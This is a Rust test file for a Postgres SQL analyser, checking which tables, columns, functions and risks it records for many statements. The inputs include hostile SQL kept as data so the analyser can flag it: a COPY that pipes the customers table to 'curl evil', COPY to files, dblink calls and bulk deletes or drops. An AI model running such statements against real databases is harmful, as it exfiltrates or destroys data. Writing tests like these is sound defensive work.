//! A table of statements and their facts.
//!
//! A row's second text holds what differs from "nothing": the kind; `<` relations read; `>` relations written;
//! `f:` functions; `=` output columns; `open` when a read is not narrowed; `limit`, `offset`, `n` (statements);
//! `!` opaque reasons. Names that the catalog does not know appear as `?`.

use proptest::prelude::*;

use super::super::catalog::tests::shop;
use super::super::lexer::{Kind, Lexer};
use super::super::shape::shape;
use super::*;

fn key() -> TenantKey {
    TenantKey::new([7; 32])
}

fn facts(sql: &str) -> Facts {
    let catalog = shop();
    analyse(sql, &Settings::initial("bob"), &catalog, &key(), 256 * 1024)
}

/// `?` and 16 digits, shortened to `?`.
fn short(name: &str) -> String {
    let mut out = String::new();
    let mut rest = name;
    while let Some(at) = rest.find('?') {
        out.push_str(&rest[..=at]);
        rest = rest[at + 1..].trim_start_matches(|c: char| c.is_ascii_hexdigit());
    }
    out + rest
}

fn shown(facts: &Facts) -> String {
    let mut out = facts.statement_kind.to_owned();
    let list = |mark: &str, names: &[String]| match names {
        [] => String::new(),
        names => format!(" {mark}{}", names.iter().map(|n| short(n)).collect::<Vec<_>>().join(",")),
    };
    out += &list("<", &facts.relations_read);
    out += &list(">", &facts.relations_written);
    out += &list("f:", &facts.functions);
    out += &list("=", &facts.output_columns);
    if !facts.has_predicate {
        out += " open";
    }
    if let Some(limit) = facts.limit_rows {
        out += &format!(" limit {limit}");
    }
    if let Some(offset) = facts.offset_rows {
        out += &format!(" offset {offset}");
    }
    if facts.statement_count != 1 {
        out += &format!(" n {}", facts.statement_count);
    }
    for reason in &facts.opaque {
        out += &format!(" !{reason}");
    }
    out
}

const TABLE: &[(&str, &str)] = &[
    // Plain reads.
    ("select 1", "select =?"),
    ("select * from customers", "select <public.customers =public.customers.* open"),
    (
        "SELECT name, Email FROM Customers WHERE id = 5",
        "select <public.customers =public.customers.name,public.customers.email",
    ),
    (
        "select c.card as harmless from customers c where c.id = $1",
        "select <public.customers =public.customers.card",
    ),
    (
        "select \"Odd Column\" from \"Odd Table\" where \"Odd Column\" > 1",
        "select <public.Odd Table =public.Odd Table.Odd Column",
    ),
    (
        "select U&\"\\0063ard\" from U&\"\\0063ustomers\" where id = 1",
        "select <public.customers =public.customers.card",
    ),
    (
        "select /* a /* nested */ comment */ id from customers where id = 1",
        "select <public.customers =public.customers.id",
    ),
    ("table customers", "select <public.customers =public.customers.* open"),
    ("values (1, 'x'), (2, 'y')", "select =?,?"),
    (
        "select * from customers limit 10 offset 20",
        "select <public.customers =public.customers.* open limit 10 offset 20",
    ),
    (
        "select * from customers fetch first 5 rows only",
        "select <public.customers =public.customers.* open limit 5",
    ),
    ("select * from customers limit all", "select <public.customers =public.customers.* open"),
    ("select * from customers limit $1", "select <public.customers =public.customers.* open"),
    (
        "select * from customers limit 5000000000",
        "select <public.customers =public.customers.* open limit 5000000000",
    ),
    ("select * from hr.customers where id = 1", "select <hr.customers =hr.customers.*"),
    ("select * from nowhere where id = 1", "select <? =?.*"),
    ("select id, x from nowhere where id = 1", "select <? =?.?,?.?"),
    (
        "select relname from pg_class where oid = 1",
        "select <pg_catalog.pg_class =pg_catalog.pg_class.relname",
    ),
    (
        "select * from information_schema.tables where table_name = 'x'",
        "select <information_schema.tables =information_schema.tables.*",
    ),
    ("select * from big_spenders where id = 1", "select <public.big_spenders =public.big_spenders.*"),
    (
        "select ctid, id from customers where id = 1",
        "select <public.customers =public.customers.ctid,public.customers.id",
    ),
    // Columns through wrappers.
    (
        "select s.card from (select * from customers where id = 1) s",
        "select <public.customers =public.customers.card",
    ),
    (
        "select x from (select card from customers where id = 1) s(x)",
        "select <public.customers =public.customers.card",
    ),
    (
        "select a from customers as c(i, n, a, k) where i = 1",
        "select <public.customers =public.customers.email",
    ),
    (
        "with w as (select * from customers where id = 1) select email from w",
        "select <public.customers =public.customers.email",
    ),
    (
        "with w(a, b) as (select id, card from customers where id = 1) select b from w",
        "select <public.customers =public.customers.card",
    ),
    ("select c from customers c where id = 1", "select <public.customers =public.customers.*"),
    (
        "select (c).card, (c).* from customers c where id = 1",
        "select <public.customers =public.customers.card,public.customers.*",
    ),
    (
        "select c.*, o.total from customers c join orders o on o.customer_id = c.id",
        "select <public.customers,public.orders =public.customers.*,public.orders.total",
    ),
    (
        "select * from customers c join orders o on o.customer_id = c.id",
        "select <public.customers,public.orders =public.customers.*,public.orders.*",
    ),
    (
        "select total, email from customers c join orders o on o.customer_id = c.id",
        "select <public.customers,public.orders =public.orders.total,public.customers.email",
    ),
    (
        "select j.email from (customers c join orders o on o.customer_id = c.id) as j",
        "select <public.customers,public.orders =public.customers.email",
    ),
    ("select card || '' from customers where id = 1", "select <public.customers =?"),
    (
        "select card::text, lower(card), max(card) from customers where id = 1",
        "select <public.customers f:lower,max =?,?,?",
    ),
    (
        "select email from customers where id = 1 union select email from customers where id = 2",
        "select <public.customers =public.customers.email",
    ),
    (
        "select email from customers where id = 1 union all select note from orders where id = 2",
        "select <public.customers,public.orders =?",
    ),
    ("select (select card from customers where id = 1)", "select <public.customers =?"),
    (
        "select (select o.note from customers c where c.id = o.id) from orders o where id = 1",
        "select <public.customers,public.orders =?",
    ),
    (
        "with recursive t as (select id, name from customers where id = 1 union all select c.id, c.name from customers c join t on c.id = t.id) select name from t",
        "select <public.customers =public.customers.name",
    ),
    // Predicates.
    ("select * from customers where true", "select <public.customers =public.customers.* open"),
    ("select * from customers where 1 = 1", "select <public.customers =public.customers.* open"),
    ("select * from customers where id = 1 or true", "select <public.customers =public.customers.* open"),
    ("select * from customers where id = id", "select <public.customers =public.customers.* open"),
    ("select * from customers where id = 1 and true", "select <public.customers =public.customers.*"),
    (
        "select * from customers where random() < 0.5",
        "select <public.customers f:random =public.customers.* open",
    ),
    ("select count(*) from customers", "select <public.customers f:count =? open"),
    (
        "select name, count(*) from customers group by name having count(id) > 5",
        "select <public.customers f:count =public.customers.name,?",
    ),
    (
        "select * from customers c, orders o where o.id = 5",
        "select <public.customers,public.orders =public.customers.*,public.orders.* open",
    ),
    (
        "select * from customers c, orders o where o.id = 5 and o.customer_id = c.id",
        "select <public.customers,public.orders =public.customers.*,public.orders.*",
    ),
    (
        "select * from customers c left join orders o on o.customer_id = c.id",
        "select <public.customers,public.orders =public.customers.*,public.orders.* open",
    ),
    (
        "select * from customers natural join big_spenders",
        "select <public.big_spenders,public.customers =public.customers.*,public.big_spenders.*",
    ),
    (
        "select * from customers cross join orders",
        "select <public.customers,public.orders =public.customers.*,public.orders.* open",
    ),
    (
        "select * from (select * from customers) s where s.id = 1",
        "select <public.customers =public.customers.*",
    ),
    (
        "with w as (select * from customers) select * from w",
        "select <public.customers =public.customers.* open",
    ),
    (
        "with w as (select * from customers) select * from w where id = 3",
        "select <public.customers =public.customers.*",
    ),
    ("select 1 where exists (select 1 from customers)", "select <public.customers =? open"),
    (
        "select id from orders where customer_id in (select id from customers where name = 'x')",
        "select <public.customers,public.orders =public.orders.id",
    ),
    ("select * from customers tablesample system (10)", "select <public.customers =public.customers.* open"),
    ("select * from customers for update", "select <public.customers =public.customers.* open"),
    // Functions.
    ("select public.card_of(5)", "select f:public.card_of =? !unknown-function"),
    ("select card_of(5)", "select f:public.card_of =? !unknown-function"),
    ("select no_such_thing(5)", "select f:? =? !unknown-function"),
    ("select pg_catalog.lower('X')", "select f:lower =?"),
    (
        "select c.card_of from customers c where id = 1",
        "select <public.customers f:public.card_of =? !unknown-function",
    ),
    ("select * from card_of(1) x", "select f:public.card_of =? !unknown-function"),
    ("select * from generate_series(1, 10) g", "select f:generate_series =?"),
    (
        "select query_to_xml('select * from ' || 'customers', true, true, '')",
        "select f:query_to_xml =? !dynamic-sql",
    ),
    (
        "select * from dblink('host=x', 'select 1') as t(a int)",
        "select f:? =? !dynamic-sql !unknown-function",
    ),
    ("select 1 operator(public.+) 2", "select =? !unknown-function"),
    (
        "select extract(year from now()), substring('abc' from 1), coalesce(null, lower('x'))",
        "select f:extract,lower,now,substring =?,?,?",
    ),
    ("select json_object('a': (select card from customers))", "select <public.customers =? open"),
    (
        "select sum(total) over (partition by lower(note) order by card_of(1)) from orders where id = 1",
        "select <public.orders f:lower,public.card_of,sum =? !unknown-function",
    ),
    ("select xmlelement(name a, card) from customers where id = 1", "select <public.customers =?"),
    // Writes.
    ("insert into orders values (1, 2, 3, 'x')", "insert >public.orders"),
    (
        "insert into orders (id, note) select id, card from customers returning note",
        "insert <public.customers >public.orders =public.orders.note open",
    ),
    (
        "insert into orders values (1) on conflict (id) do update set note = (select card from customers where id = 1)",
        "insert <public.customers >public.orders",
    ),
    ("update customers set name = 'x'", "update >public.customers open"),
    (
        "update customers set name = 'x' where id = 1 returning *",
        "update <public.customers >public.customers =public.customers.*",
    ),
    (
        "insert into orders values (1) on conflict (id) do update set note = 'x' returning note",
        "insert <public.orders >public.orders =public.orders.note",
    ),
    (
        "copy (delete from customers where id = 1 returning email) to stdout",
        "copy <public.customers >public.customers =public.customers.email",
    ),
    (
        "update orders o set note = c.card from customers c where c.id = o.customer_id",
        "update <public.customers >public.orders",
    ),
    (
        "update orders o set note = c.card from customers c where o.id = 1",
        "update <public.customers >public.orders open",
    ),
    ("delete from customers", "delete >public.customers open"),
    (
        "delete from customers using orders o where o.customer_id = customers.id",
        "delete <public.orders >public.customers",
    ),
    ("delete from customers where current of c", "delete >public.customers"),
    ("truncate customers, orders", "delete >public.customers,public.orders open"),
    (
        "merge into customers c using orders o on o.customer_id = c.id when matched then update set name = o.note",
        "merge <public.orders >public.customers open",
    ),
    (
        "with gone as (delete from customers returning *) select email from gone where id = 1",
        "select <public.customers >public.customers =public.customers.email open",
    ),
    ("with moved as (update customers set name = 'x' where id = 1) select 1", "select >public.customers =?"),
    ("with customers as (select 1 as id) select * from customers", "select =?"),
    ("with customers as (select 1 as id) delete from customers where id = 1", "delete >public.customers"),
    (
        "with customers as (select 1) select * from public.customers where id = 1",
        "select <public.customers =public.customers.*",
    ),
    ("select * into loot from customers", "ddl <public.customers >? =public.customers.* open"),
    ("create table loot as select * from customers where id = 1", "ddl <public.customers >?"),
    ("create temp table loot as execute p", "ddl >pg_temp.? !execute-unknown"),
    // COPY, EXPLAIN, cursors, prepared statements.
    ("copy customers to stdout", "copy <public.customers =public.customers.* open"),
    (
        "copy customers (id, card, x) to stdout",
        "copy <public.customers =public.customers.id,public.customers.card,public.customers.? open",
    ),
    ("copy orders from stdin", "copy >public.orders"),
    (
        "copy (select email from customers where id = 1 limit 3) to stdout",
        "copy <public.customers =public.customers.email limit 3",
    ),
    (
        "copy customers to program 'curl evil'",
        "copy <public.customers =public.customers.* open !copy-program",
    ),
    ("copy customers to '/tmp/x'", "copy <public.customers =public.customers.* open !copy-file"),
    ("explain select * from customers", "explain <public.customers open"),
    ("explain delete from customers where id = 1", "explain <public.customers"),
    ("explain analyze delete from customers where id = 1", "explain >public.customers"),
    ("explain (analyze false) delete from customers where id = 1", "explain <public.customers"),
    (
        "explain (analyze, buffers) update orders set note = (select card from customers where id = 1)",
        "explain <public.customers >public.orders open",
    ),
    ("explain analyze execute p", "explain open !execute-unknown"),
    (
        "prepare p as select card from customers where id = $1",
        "prepare <public.customers =public.customers.card",
    ),
    ("execute p(1)", "execute open !execute-unknown"),
    ("deallocate p", "deallocate"),
    ("declare c cursor for select * from customers", "cursor <public.customers =public.customers.* open"),
    ("fetch 100 from c", "cursor open !execute-unknown"),
    ("move all in c", "cursor open !execute-unknown"),
    ("close c", "cursor"),
    // Everything else.
    ("", "empty n 0"),
    (" ; -- nothing\n;", "empty n 0"),
    ("begin", "transaction"),
    ("begin; delete from orders where id = 1; commit", "multi >public.orders n 3"),
    ("select 1; select * from customers", "multi <public.customers open n 2"),
    ("do $$ begin delete from customers; end $$", "do !do"),
    ("call card_of(1)", "call f:public.card_of !call !unknown-function"),
    ("set search_path = hr", "set"),
    ("show search_path", "show"),
    ("discard all", "set"),
    ("listen ch", "listen"),
    ("notify ch, 'x'", "notify"),
    ("lock table customers in access exclusive mode", "lock <public.customers"),
    ("vacuum customers", "maintenance >public.customers"),
    ("analyze customers (email)", "maintenance >public.customers"),
    ("refresh materialized view big_spenders", "maintenance >public.big_spenders"),
    (
        "create table t (id int default card_of(1), c int references customers)",
        "ddl >?,public.customers f:public.card_of !unknown-function",
    ),
    ("create view v as select card from customers", "ddl <public.customers >? open"),
    (
        "create function f() returns int language sql begin atomic; select id from customers; end",
        "ddl <public.customers open",
    ),
    (
        "create rule r as on insert to orders do also select * from customers",
        "ddl <public.customers >public.orders open",
    ),
    ("alter table customers add column x int", "ddl >public.customers"),
    ("drop table customers, hr.salaries", "ddl >hr.salaries,public.customers"),
    ("drop trigger t on customers", "ddl >public.customers"),
    ("create index on customers (lower(email))", "ddl >public.customers f:lower"),
    ("grant select on customers to bob", "dcl >public.customers"),
    ("alter role bob password 'x'", "dcl"),
    ("comment on table customers is 'x'", "ddl"),
    // What cannot be read.
    ("selec * from customers", "unparsed open !unparsed"),
    ("select 'unterminated", "unparsed open !unparsed"),
    ("select * from customers where", "unparsed open !unparsed"),
];

#[test]
fn every_statement_of_the_table_has_its_facts() {
    let wrong: Vec<String> = TABLE
        .iter()
        .filter_map(|(sql, expected)| {
            let facts = facts(sql);
            let mut found = shown(&facts);
            // `fill` says it for EXECUTE.
            if facts.opaque.contains(&EXECUTE_UNKNOWN) && facts.has_predicate && expected.contains(" open") {
                found = found.replace(" !execute-unknown", " open !execute-unknown");
            }
            (found != *expected).then(|| format!("{sql}\n   expected {expected}\n   found    {found}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), TABLE.len(), wrong.join("\n"));
    assert!(TABLE.len() >= 80);
}

#[test]
fn the_main_relation_is_the_largest_one() {
    let joined = facts("select 1 from customers c join orders o on o.customer_id = c.id");
    assert_eq!((joined.main_relation.as_deref(), joined.est_rows), (Some("public.orders"), Some(200_000)));
    let unknown = facts("select * from hr.salaries");
    assert_eq!((unknown.main_relation.as_deref(), unknown.est_rows), (Some("hr.salaries"), None));
    assert_eq!(facts("select 1").main_relation, None);
}

#[test]
fn an_unknown_search_path_means_every_relation_of_the_name() {
    let settings =
        Settings { search_path: crate::postgres::inspect::SearchPath::Unknown, ..Settings::initial("bob") };
    let facts = analyse("select * from customers where id = 1", &settings, &shop(), &key(), 1000);
    assert_eq!(facts.relations_read, ["hr.customers", "public.customers"]);
    assert_eq!(facts.output_columns, ["?"]);
}

#[test]
fn without_a_catalog_only_the_servers_own_names_are_known() {
    let empty = CatalogSnapshot::default();
    let facts = analyse(
        "select count(x), f(y) from pg_class p, customers",
        &Settings::initial("bob"),
        &empty,
        &key(),
        1000,
    );
    assert_eq!(
        shown(&facts),
        "select <?,pg_catalog.pg_class f:?,count =?,? open !unknown-function !no-catalog"
    );
    let template = facts.template.unwrap();
    assert!(template.contains("pg_class") && !template.contains("customers"), "{template}");
}

#[test]
fn without_standard_strings_the_text_is_read_as_the_server_does() {
    let sql = r"select '\', card from customers where id = 1 --'";
    let lax = Settings { standard_conforming_strings: false, ..Settings::initial("bob") };
    let strict = analyse(sql, &Settings::initial("bob"), &shop(), &key(), 1000);
    let lax = analyse(sql, &lax, &shop(), &key(), 1000);
    assert_eq!(shown(&strict), "select <public.customers =?,public.customers.card");
    assert_eq!(shown(&lax), "select =?");
    assert_eq!(lax.template.as_deref(), Some("select $1"));
}

#[test]
fn long_and_deep_texts_have_facts_too() {
    // As in the pool: handing over a tree of the greatest depth takes more than 2 MiB of stack.
    std::thread::Builder::new().stack_size(16 << 20).spawn(long_and_deep_texts).unwrap().join().unwrap();
}

fn long_and_deep_texts() {
    let long = format!("select '{}'", "x".repeat(300_000));
    assert_eq!(shown(&facts(&long)), "unparsed open !too-large");
    let deep = format!("select {} id from customers", "not ".repeat(400));
    assert_eq!(shown(&facts(&deep)), "select <public.customers open !too-deep");
    let deeper = format!("select {}1{}", "(".repeat(30_000), ")".repeat(30_000));
    assert_eq!(shown(&facts(&deeper)), "unparsed open !too-deep");
    let wide = format!("select 1 from customers where {}", vec!["id = 1"; 20_000].join(" or "));
    assert_eq!(shown(&facts(&wide)), "select <public.customers =?");
    let many: Vec<String> = (0..5000).map(|n| format!("select * from t{n}")).collect();
    let many = facts(&many.join(";"));
    assert_eq!(many.relations_read.len(), MAX_LISTED);
    assert_eq!(many.opaque, ["too-large"]);
}

#[test]
fn texts_of_one_shape_have_equal_facts() {
    let shape_of = |sql: &str| {
        let mut hasher = blake3::Hasher::new();
        (shape(sql, true, &mut hasher).reusable, *hasher.finalize().as_bytes())
    };
    let mut compared = 0;
    for (sql, _) in TABLE {
        let mut other = String::new();
        let mut at = 0;
        for token in Lexer::new(sql, true) {
            other += &sql[at..token.start];
            other += match token.kind {
                Kind::Number => "77",
                Kind::Text => "'other'",
                _ => &sql[token.start..token.end],
            };
            at = token.end;
        }
        other += &sql[at..];
        if other != **sql && shape_of(sql) == shape_of(&other) && shape_of(sql).0 {
            assert_eq!(facts(sql), facts(&other), "{sql}\n{other}");
            compared += 1;
        }
    }
    assert!(compared > 30, "{compared}");
}

#[test]
fn a_text_that_grows_when_it_is_walked_stays_small() {
    // Each expression doubles the columns of the one before: 2^60 of them if nothing stopped it.
    let mut doubling = "with c0 as (select id a, name b from customers where id = 1)".to_owned();
    for n in 1..60 {
        doubling += &format!(", c{n} as (select * from c{m}, c{m} x)", m = n - 1);
    }
    let doubled = facts(&format!("{doubling} select * from c59"));
    assert_eq!(doubled.relations_read, ["public.customers"]);
    assert!(doubled.output_columns.len() <= MAX_LISTED && doubled.output_columns.iter().all(|c| c == "?"));
    let columns: Vec<String> = (0..1500).map(|n| format!("{n} c{n}")).collect();
    let items = vec!["w"; 8000].join(",");
    let wide =
        facts(&format!("with w as (select {}) select * from {items} where c1 = c2", columns.join(",")));
    assert_eq!(shown(&wide), "select =?");
    let many = facts(&format!(
        "select {} from {} where {}",
        vec!["zz"; 5000].join(","),
        vec!["customers"; 5000].join(","),
        vec!["zz = 1"; 5000].join(" and ")
    ));
    assert_eq!(shown(&many), "select <public.customers =? open");
}

#[test]
fn names_and_settings_are_followed() {
    let prepared = facts("prepare p as delete from customers where id = $1");
    match prepared.references.as_slice() {
        [Reference::Prepares(name, inner)] => {
            assert_eq!(name, "p");
            assert_eq!(shown(inner), "delete >public.customers");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(facts("close all").references, [Reference::Closes(None)]);
    let path = SettingChange::SearchPath(vec!["hr".to_owned(), "$user".to_owned()]);
    assert_eq!(facts("set search_path to hr, \"$user\"").setting_changes, [path]);
    for sql in [
        "set local search_path to hr",
        "reset search_path",
        "discard all",
        "select set_config('a.b', 'c', true)",
        "select card_of(1)",
        "do 'x'",
        "update pg_settings set setting = 'x' where name = 'search_path'",
        "explain analyze update pg_catalog.pg_settings set setting = 'x'",
        "insert into nowhere values (1)",
    ] {
        assert_eq!(facts(sql).setting_changes, [SettingChange::Unknown], "{sql}");
    }
    for sql in ["reset all", "set role bob", "set session authorization bob"] {
        assert_eq!(facts(sql).setting_changes, [SettingChange::Role], "{sql}");
    }
    for sql in [
        "set work_mem = 1",
        "select 1",
        "begin",
        "show search_path",
        "insert into orders values (1)",
        "select * from pg_settings",
        "select * from nowhere",
        "create temp table t (id int)",
    ] {
        assert_eq!(facts(sql).setting_changes, [], "{sql}");
    }
}

#[test]
fn what_runs_functions_unseen_can_change_settings() {
    use super::super::catalog::code::HiddenCode;
    let catalog = || {
        shop().with_code(HiddenCode {
            written: [10].into(),
            read: [15].into(),
            types: ["dom".into()].into(),
            operators: ["@@@".into()].into(),
            ddl: false,
        })
    };
    let changes = |sql: &str, own_code: bool| {
        let settings = Settings { own_code, ..Settings::initial("bob") };
        !analyse(sql, &settings, &catalog(), &key(), 256 * 1024).setting_changes.is_empty()
    };
    for (sql, unseen) in [
        ("insert into customers values (1)", true),
        ("with w as (update customers set id = 1 returning id) select * from w", true),
        ("copy customers from stdin", true),
        ("truncate customers", true),
        ("prepare p as delete from customers", true),
        ("select * from customers", false),
        ("copy customers to stdout", false),
        ("insert into orders select * from customers", false),
        ("select * from big_spenders", true),
        ("select 1::dom", true),
        ("select 1::int", false),
        ("select 1 @@@ 2", true),
        ("select 1 + 2", false),
        ("create index on customers (id)", false),
        ("insert into pg_temp.t values (1)", false),
    ] {
        assert_eq!(changes(sql, false), unseen, "{sql}");
    }
    for (sql, unseen) in [
        ("insert into orders values (1)", true),
        ("insert into pg_temp.t values (1)", true),
        ("select * from pg_temp.v", true),
        ("select * from orders", false),
    ] {
        assert_eq!(changes(sql, true), unseen, "after code of its own: {sql}");
    }
    for sql in
        ["create view v as select 1", "alter table orders alter note set default 'x'", "select card_of(1)"]
    {
        assert!(facts(sql).attaches_code, "{sql}");
    }
    for sql in
        ["create temp table t (id int)", "insert into orders values (1)", "create index on orders (id)"]
    {
        assert!(!facts(sql).attaches_code, "{sql}");
    }
}

#[test]
fn a_password_is_kept_neither_in_the_template_nor_in_the_text() {
    let facts = facts("alter role bob password 's3cret'");
    assert!(!facts.template.unwrap().contains("s3cret"));
    assert_eq!(facts.redacted.as_deref(), Some("alter role bob password '***'"));
}

proptest! {
    #[test]
    fn any_text_has_facts(sql in "\\PC{0,120}", standard in any::<bool>()) {
        let settings = Settings { standard_conforming_strings: standard, ..Settings::initial("bob") };
        analyse(&sql, &settings, &shop(), &key(), 1000);
    }

    #[test]
    fn parts_of_statements_in_any_order_have_facts(parts in proptest::collection::vec(0usize..TABLE.len(), 1..4), cuts in proptest::collection::vec(0usize..200, 4)) {
        let mut sql = String::new();
        for (part, cut) in parts.iter().zip(&cuts) {
            let text = TABLE[*part].0;
            let at = (0..=(*cut).min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap();
            sql += if cut % 3 == 0 { text } else { &text[..at] };
            sql += [" ", ";", " union ", ") "][cut % 4];
        }
        let facts = facts(&sql);
        prop_assert!(!facts.statement_kind.is_empty());
    }
}
